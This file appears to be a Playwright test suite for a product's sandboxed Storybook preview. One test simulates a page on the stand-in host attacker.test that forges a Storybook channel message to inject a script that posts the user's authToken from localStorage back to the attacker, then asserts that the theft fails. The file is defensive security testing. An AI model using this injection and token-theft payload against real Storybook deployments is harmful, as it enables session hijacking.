import type { Page } from '@playwright/test';
import { MANAGER, signIn } from './support/users';
import { expect, test } from './support/test';

// Not loopback to the browser, so plain HTTP is untrustworthy; without a dot, so the server answers for it.
const HOST = 'product';
const ATTACKER = 'http://attacker.test/';
const STORY = 'core-button--primary';

test.use({
  launchOptions: async ({ launchOptions }, use) => {
    const args = [...(launchOptions.args ?? []), `--host-resolver-rules=MAP ${HOST} 127.0.0.1`];
    await use({ ...launchOptions, args });
  },
});

/** A message to Storybook's channel that renders markup of the sender's choice in a story. */
function messageWith(srcDoc: string): string {
  const element = {
    $$typeof: '_gsymbol_react.transitional.element',
    type: 'iframe',
    key: null,
    ref: null,
    props: { srcDoc },
    _store: {},
  };
  const args = [{ storyId: STORY, updatedArgs: { children: element } }];
  return JSON.stringify({ key: 'storybook-channel', event: { type: 'updateStoryArgs', args, from: 'x' } });
}

async function openPreviewFrom(page: Page, origin: string): Promise<Page> {
  await page.route(ATTACKER, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<title>Attacker</title>' }),
  );
  await page.goto(ATTACKER);
  const [preview] = await Promise.all([
    page.waitForEvent('popup'),
    page.evaluate((address) => {
      const attacker = window as unknown as { preview: Window | null; stolen: unknown[] };
      attacker.stolen = [];
      addEventListener('message', ({ data }: MessageEvent<unknown>) => attacker.stolen.push(data));
      attacker.preview = open(address);
    }, `${origin}/storybook/iframe.html?id=${STORY}&viewMode=story`),
  ]);
  await expect(preview.locator('#storybook-root button')).toBeVisible();
  return preview;
}

test.describe('over plain HTTP, where windows are not isolated from each other', () => {
  test.use({ baseURL: async ({ product }, use) => use(product.url.replace('127.0.0.1', HOST)) });

  test("another site's messages to Storybook's preview cannot access the session", async ({
    page,
    baseURL,
    problems,
  }) => {
    await signIn(page, MANAGER);
    expect(await page.evaluate(() => localStorage.getItem('authToken'))).toBeTruthy();

    const preview = await openPreviewFrom(page, String(baseURL));
    const theft = '<script>top.opener.postMessage(top.localStorage.getItem("authToken"), "*")</' + 'script>';
    await page.evaluate((message) => {
      (window as unknown as { preview: Window }).preview.postMessage(message, '*');
    }, messageWith(theft));
    // The message has arrived, because its markup is in the story.
    await expect(preview.locator('#storybook-root iframe')).toBeAttached();
    await expect.poll(() => preview.frames().length).toBe(2);
    await preview.frames()[1]?.waitForLoadState();
    expect(await page.evaluate(() => (window as unknown as { stolen: unknown[] }).stolen)).toEqual([]);

    // Even a script injected in another way cannot access the session.
    const read = () => {
      try {
        return localStorage.getItem('authToken');
      } catch (error) {
        return (error as Error).name;
      }
    };
    expect(await preview.evaluate(read)).toBe('SecurityError');
    expect(await preview.evaluate(() => self.origin)).toBe('null');
    // The browser's own warnings about plain HTTP.
    problems.length = 0;
  });
});

test('Storybook shows stories and docs in the sandbox', async ({ page, problems }) => {
  await page.goto(`/storybook/?path=/story/${STORY}`);
  const preview = page.frameLocator('#storybook-preview-iframe');
  await expect(preview.locator('#storybook-root button')).toBeVisible();
  expect(await page.evaluate(() => self.origin)).toBe('null');
  await page.getByRole('button', { name: /^Theme/ }).click();
  await page.getByText('Dark', { exact: true }).click();
  await expect(preview.locator('html')).toHaveAttribute('data-theme', 'dark');
  await page.getByRole('link', { name: 'Introduction' }).click();
  await expect(preview.getByRole('heading', { level: 1, name: 'The ui-kit' })).toBeVisible();
  await page.goto('/storybook/?path=/docs/core-button--docs');
  await preview.getByRole('link', { name: 'IconButton' }).click();
  await expect(preview.getByRole('heading', { level: 1, name: 'IconButton' })).toBeVisible();
  // Storybook's own deprecation warnings are ignored.
  const errors = problems.splice(0).filter((text) => /Content Security|failed|: [45]\d\d$/.test(text));
  expect(errors).toEqual([]);
});

test('a form in a story is submitted by Enter, to its script alone', async ({ page, problems }) => {
  await page.goto('/storybook/?path=/story/fields-in-a-form--all-fields');
  const preview = page.frameLocator('#storybook-preview-iframe');
  await preview.getByRole('textbox', { name: 'Description' }).fill('Maps of the coast');
  await preview.getByRole('textbox', { name: 'Required Skills' }).press('Enter');
  await expect(preview.getByText('Changes saved')).toBeVisible();
  await expect(preview.getByRole('textbox', { name: 'Description' })).toHaveValue('Maps of the coast');
  problems.length = 0;

  // What no script handles is not sent.
  await preview.locator('body').evaluate((body) => {
    body.insertAdjacentHTML('beforeend', '<form action="/login" target="_self"><button>Send</button></form>');
  });
  await preview.getByRole('button', { name: 'Send' }).click();
  await expect.poll(() => problems.join()).toContain('form-action');
  problems.length = 0;
});

test('names of tokens are copied in the sandbox', async ({ page, problems }) => {
  await page.goto('/storybook/?path=/docs/foundations-tokens--docs');
  const preview = page.frameLocator('#storybook-preview-iframe');
  const name = preview.getByRole('button', { name: 'Copy --bg-canvas' });
  await name.focus();
  await page.keyboard.press('Enter');
  await expect(preview.getByRole('status').getByText('Copied var(--bg-canvas)')).toBeAttached();
  // Where it can be pasted, it is what was said.
  await page.evaluate(() =>
    document.body.insertAdjacentHTML('afterbegin', '<textarea id="paste"></textarea>'),
  );
  await page.locator('#paste').focus();
  await page.keyboard.press('Control+V');
  await expect(page.locator('#paste')).toHaveValue('var(--bg-canvas)');
  problems.length = 0;
});
